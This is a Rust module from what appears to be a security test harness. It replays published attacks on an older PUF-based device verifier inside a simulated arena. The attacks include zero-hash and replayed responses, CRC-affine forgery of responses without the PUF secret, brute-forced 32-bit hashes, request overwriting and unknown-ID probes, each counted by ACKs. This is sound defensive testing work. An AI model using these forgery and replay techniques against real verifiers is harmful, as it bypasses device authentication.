//! The published attacks on the earlier verifier as they were, against the port of the classic profiles.
//!
//! By default that port is closed, and nothing comes back at all. Messages go to the ports that the earlier verifier's
//! simulator and firmware used as well, since it looked at none.

use std::time::{Duration, Instant};

use linewarden_protocol::classic::{Block, Message, ResponseBits, hash, message_type, xor};
use linewarden_protocol::frame::write::Endpoint;
use rand::Rng as _;

use super::station::{Heard, own};
use super::{Arena, AttackError, Tally};
use crate::address::{Family, GATEWAY};

/// Identifiers of the earlier verifier: 1 to this.
const IDENTIFIERS: u32 = 500;
/// Ports of its simulator and its firmware, and LAP's.
const OTHER_PORTS: [u16; 3] = [18_000, 14_550, linewarden_protocol::wire::LAP_PORT];
const ZERO: Block = [0; 32];
/// How long the first answer of a classic verifier is waited for.
const FIRST_LINGER: Duration = Duration::from_millis(100);
/// How long further answers are waited for.
const LINGER: Duration = Duration::from_millis(10);

/// An honest exchange as it was heard.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct ClassicExchange {
    /// Response size.
    pub bits: ResponseBits,
    /// The verifier's CH.
    pub challenge: Message,
    /// The device's RESP.
    pub response: Message,
}

/// Sends messages from one of the attacker's addresses to the classic port and others, and says what came back.
struct Prober {
    me: Endpoint,
    ports: Vec<u16>,
    /// How much longer than the gateway takes to be listened for answers: a verifier on another port may be slower
    /// than the gateway. Zero when no port has answered any honest REQ.
    linger: Duration,
}

impl Prober {
    fn new(arena: &mut Arena<'_>, number: u32) -> Result<Self, AttackError> {
        let mut prober = Self {
            me: own(number, 50_004),
            ports: std::iter::once(arena.classic_port).chain(OTHER_PORTS).collect(),
            linger: FIRST_LINGER,
        };
        let mut open = false;
        for bits in ResponseBits::ALL {
            prober.send(arena, bits, &Message::new(message_type::REQ, 1))?;
            open |= !prober.replies(arena, bits)?.is_empty();
        }
        prober.linger = if open { LINGER } else { Duration::ZERO };
        Ok(prober)
    }

    fn send(&self, arena: &mut Arena<'_>, bits: ResponseBits, message: &Message) -> Result<(), AttackError> {
        let mut payload = vec![0u8; bits.message_bytes()];
        message
            .write(bits, &mut payload)
            .ok_or(AttackError::Control("a classic message is not written"))?;
        for port in &self.ports {
            arena
                .station
                .send(&self.me, &GATEWAY.endpoint(Family::V4, *port), &payload)?;
        }
        Ok(())
    }

    /// Everything classic that came back until the gateway had seen what was sent, and [`Self::linger`] longer.
    fn replies(&self, arena: &mut Arena<'_>, bits: ResponseBits) -> Result<Vec<Message>, AttackError> {
        let mut replies = Vec::new();
        let mut hear = |heard: &Heard<'_>| {
            if heard.to == self.me && self.ports.contains(&heard.from.port) {
                replies.extend(Message::parse(bits, heard.payload));
            }
        };
        arena.station.settle(&mut hear)?;
        if !self.linger.is_zero() {
            // Other traffic may never cease.
            let until = Instant::now() + 5 * self.linger;
            while Instant::now() < until && arena.station.wait(self.linger)? {
                arena.station.listen(&mut |heard| {
                    hear(heard);
                    false
                })?;
            }
        }
        Ok(replies)
    }
}

fn acks(replies: &[Message]) -> u64 {
    replies
        .iter()
        .filter(|reply| reply.kind == message_type::ACK)
        .count() as u64
}

fn response_with(identifier: u32, hash: u32) -> Message {
    Message {
        hash,
        ..Message::new(message_type::RESP, identifier)
    }
}

/// A RESP with hash 0 in each name, none of which was challenged. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn zero_hash(arena: &mut Arena<'_>) -> Result<Tally, AttackError> {
    let prober = Prober::new(arena, 21)?;
    let mut tally = Tally::default();
    for bits in ResponseBits::ALL {
        for identifier in 1..=IDENTIFIERS {
            prober.send(arena, bits, &response_with(identifier, 0))?;
            tally.attempts += 1;
            if identifier % 32 == 0 || identifier == IDENTIFIERS {
                tally.successes += acks(&prober.replies(arena, bits)?);
            }
        }
    }
    Ok(tally)
}

/// The captured exchanges, or such as might have been where none was to be heard.
fn exchanges(arena: &mut Arena<'_>) -> Vec<ClassicExchange> {
    if !arena.classic_exchanges.is_empty() {
        return arena.classic_exchanges.clone();
    }
    (1..=8)
        .map(|identifier| {
            let mut challenge = Message::new(message_type::CH, identifier);
            arena
                .rng
                .fill_bytes(challenge.rn.get_mut(..8).unwrap_or_default());
            ClassicExchange {
                bits: ResponseBits::B64,
                challenge,
                response: response_with(identifier, arena.rng.next_u32()),
            }
        })
        .collect()
}

/// A RESP that was good once, again and again. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn replayed_response(arena: &mut Arena<'_>) -> Result<Tally, AttackError> {
    let prober = Prober::new(arena, 22)?;
    let mut tally = Tally::default();
    for exchange in exchanges(arena) {
        for _ in 0..20 {
            prober.send(arena, exchange.bits, &exchange.response)?;
            tally.attempts += 1;
        }
        tally.successes += acks(&prober.replies(arena, exchange.bits)?);
    }
    Ok(tally)
}

/// From one exchange heard, the answer to every other one with the same challenge: `H' = H ^ CRC(0, RN' ^ RN'') ^ CRC(0)`,
/// without knowing the PUF's response. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn affine_forgery(arena: &mut Arena<'_>) -> Result<Tally, AttackError> {
    let prober = Prober::new(arena, 23)?;
    let mut tally = Tally::default();
    for exchange in exchanges(arena) {
        let bits = exchange.bits;
        // Challenges are drawn again and again, so asking often enough brings the same one back.
        for _ in 0..32 {
            let identifier = exchange.challenge.identifier;
            prober.send(arena, bits, &Message::new(message_type::REQ, identifier))?;
            tally.attempts += 1;
            let replies = prober.replies(arena, bits)?;
            let same = replies.iter().find(|reply| {
                reply.kind == message_type::CH
                    && (reply.challenge1, reply.challenge2)
                        == (exchange.challenge.challenge1, exchange.challenge.challenge2)
            });
            let Some(challenge) = same else {
                continue;
            };
            let second = (exchange.challenge.challenge2 != 0).then_some(&ZERO);
            let delta = xor(&challenge.rn, &exchange.challenge.rn);
            let forged =
                exchange.response.hash ^ hash(bits, &ZERO, second, &delta) ^ hash(bits, &ZERO, second, &ZERO);
            let response = Message {
                challenge1: challenge.challenge1,
                challenge2: challenge.challenge2,
                ..response_with(identifier, forged)
            };
            prober.send(arena, bits, &response)?;
            tally.successes += acks(&prober.replies(arena, bits)?);
        }
    }
    Ok(tally)
}

/// Hashes of 32 bits, guessed; a sample of what 2^32 packets would do in minutes at line rate. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn guessed_hashes(arena: &mut Arena<'_>) -> Result<Tally, AttackError> {
    let prober = Prober::new(arena, 24)?;
    let mut tally = Tally::default();
    let bits = ResponseBits::B64;
    prober.send(arena, bits, &Message::new(message_type::REQ, 1))?;
    for number in 0..arena.effort {
        let guess = response_with(1, arena.rng.next_u32());
        prober.send(arena, bits, &guess)?;
        tally.attempts += 1;
        if number % 64 == 63 || number + 1 == arena.effort {
            tally.successes += acks(&prober.replies(arena, bits)?);
        }
    }
    Ok(tally)
}

/// A second REQ in a name whose exchange is running. A second, other CH is a success: the expected hash of the first is
/// gone.
///
/// # Errors
/// See [`AttackError`].
pub fn overwriting_request(arena: &mut Arena<'_>) -> Result<Tally, AttackError> {
    let prober = Prober::new(arena, 25)?;
    let mut tally = Tally::default();
    for bits in ResponseBits::ALL {
        for identifier in 1..=16 {
            let request = Message::new(message_type::REQ, identifier);
            prober.send(arena, bits, &request)?;
            let first = prober.replies(arena, bits)?;
            prober.send(arena, bits, &request)?;
            let second = prober.replies(arena, bits)?;
            tally.count(
                second.iter().any(|reply| {
                    reply.kind == message_type::CH && !first.is_empty() && !first.contains(reply)
                }),
            );
        }
    }
    Ok(tally)
}

/// REQs in names that do not exist. Anything that comes back is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn unknown_id(arena: &mut Arena<'_>) -> Result<Tally, AttackError> {
    let prober = Prober::new(arena, 26)?;
    let mut tally = Tally::default();
    for bits in ResponseBits::ALL {
        for identifier in [0, IDENTIFIERS + 1, 1 << 31, u32::MAX] {
            prober.send(arena, bits, &Message::new(message_type::REQ, identifier))?;
            tally.count(!prober.replies(arena, bits)?.is_empty());
        }
    }
    Ok(tally)
}
